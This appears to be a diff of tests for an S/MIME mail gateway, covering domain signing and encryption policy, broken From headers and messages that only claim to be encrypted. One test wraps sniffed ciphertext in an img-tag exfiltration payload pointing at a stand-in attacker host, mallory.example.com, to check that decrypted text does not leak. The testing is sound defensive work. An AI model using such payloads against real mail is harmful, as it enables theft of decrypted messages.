@@ -10,6 +10,7 @@ alice and carol are users whose RSA keys the installation has; bob is a partner
 of theirs, mallory is everybody else, with a certificate that is trusted.
 """
 
+import contextlib
 import hashlib
 import re
 import secrets
@@ -154,6 +155,25 @@ class Fixture(Site):
         store.close()
         return found
 
+    @contextlib.contextmanager
+    def asks(self, sender, *options):
+        """Something is asked of sender's domain, from the moment when the
+        daemon knows until it has heard that nothing is."""
+
+        def refused():
+            reply = self.comes(text("x"), sender=sender).verdict.reply
+            return "5.7.6" in reply
+
+        domain = sender.partition("@")[2]
+        self.smimectl("recipient", "set", domain, *options,
+                      "--inbound-action", "refuse")
+        try:
+            wait_until(refused, f"what is asked of {sender}")
+            yield
+        finally:
+            self.smimectl("recipient", "remove", domain)
+            wait_until(lambda: not refused(), f"nothing asked of {sender}")
+
     def settle(self):
         """What was learned before is written when this is."""
         address = f"{secrets.token_hex(4)}@example.net"
@@ -251,11 +271,9 @@ def _(site):
 @case("what stands around the ciphertext is gone when it is opened")
 def _(site):
     exfiltrate = b"<img src='http://mallory.example.com/"
-    for junk in (exfiltrate + b"\r\n" + site.sniffed.partition(
-                     b"\r\n\r\n")[2],
-                 site.sniffed.partition(b"\r\n\r\n")[2] + b"\r\n" + exfiltrate):
-        arrival = site.comes(site.sniffed.partition(b"\r\n\r\n")[0] +
-                             b"\r\n\r\n" + junk)
+    head, _, body = site.sniffed.partition(b"\r\n\r\n")
+    for junk in (exfiltrate + b"\r\n" + body, body + b"\r\n" + exfiltrate):
+        arrival = site.comes(head + b"\r\n\r\n" + junk)
         equal(arrival.verdict.reply, "250", "answer")
         check(not (arrival.opened() and "<img" in arrival.result),
               "plaintext beside what mallory wrote")
@@ -487,12 +505,8 @@ def _(site):
 
 @case("also when mail from there must be signed and encrypted, or is refused")
 def _(site):
-    site.smimectl("recipient", "set", "example.com", "--inbound-signature",
-                  "required", "--inbound-encryption", "required",
-                  "--inbound-action", "refuse")
-    try:
-        wait_until(lambda: "5.7.6" in site.comes(text("x")).verdict.reply,
-                   "what is asked of mallory")
+    with site.asks(MALLORY, "--inbound-signature", "required",
+                   "--inbound-encryption", "required"):
         seen = {}
         for cipher, what, ciphertext in failures(site):
             arrival = site.comes(encrypted(ciphertext)).unread()
@@ -505,8 +519,6 @@ def _(site):
                 arrival = site.comes(encrypted(
                     site.to_alice(cipher, content)))
                 equal(arrival.verdict.reply, "250", "answer")
-    finally:
-        site.smimectl("recipient", "remove", "example.com")
 
 
 # --- what is asked of bob ---
@@ -526,25 +538,44 @@ BROKEN = [
 
 @case("nobody gets around what is asked of bob by a From that is broken")
 def _(site):
-    site.smimectl("recipient", "set", "example.net", "--inbound-signature",
-                  "required", "--inbound-action", "refuse")
-
     def refused(field, sender):
         data = message("FROM", ALICE, text("x"))
         arrival = site.arrives(data.replace(b"From: FROM",
                                             b"From: " + field), sender=sender)
         return "5.7.61" in arrival.verdict.reply
 
-    try:
-        wait_until(lambda: refused(b"bob@example.net", MALLORY),
-                   "what is asked of bob")
+    with site.asks(BOB, "--inbound-signature", "required"):
         for field in BROKEN:
             for sender in (MALLORY, ""):
                 check(refused(field, sender), repr(field))
-        wait_until(lambda: not refused(b"<mallory@example.com", MALLORY),
-                   "nothing is asked of mallory")
-    finally:
-        site.smimectl("recipient", "remove", "example.net")
+        check(not refused(b"<mallory@example.com", MALLORY), "others")
+
+
+def pretenders():
+    """Mail that only says that it is encrypted."""
+    kind = f"Content-Type: {am.ENVELOPED}\r\n".encode()
+    html = b"\r\n<h1>Pay to mallory</h1>\r\n"
+    yield "two types", kind + b"Content-Type: text/html\r\n" + html
+    yield "two types, the other way", b"Content-Type: text/html\r\n" + \
+        kind + html
+    yield "no CMS", kind + html
+    yield "no CMS in base64", kind + \
+        b"Content-Transfer-Encoding: base64\r\n" + html
+    yield "nothing", kind + b"\r\n"
+    yield "half a CMS", am.entity(am.ENVELOPED, Ciphertext(text("x")).der()[
+        :-5])
+    yield "compressed", compressed(text("x")).replace(b"compressed-data",
+                                                      b"enveloped-data")
+
+
+@case("nor by saying that it is encrypted")
+def _(site):
+    with site.asks(BOB, "--inbound-encryption", "required"):
+        for what, content in pretenders():
+            contains(site.comes(content, sender=BOB).verdict.reply, "5.7.62",
+                     what)
+        equal(site.comes(site.sniffed, sender=BOB).verdict.reply, "250",
+              "an honest one")
 
 
 # --- what is inside a ciphertext writes no header ---
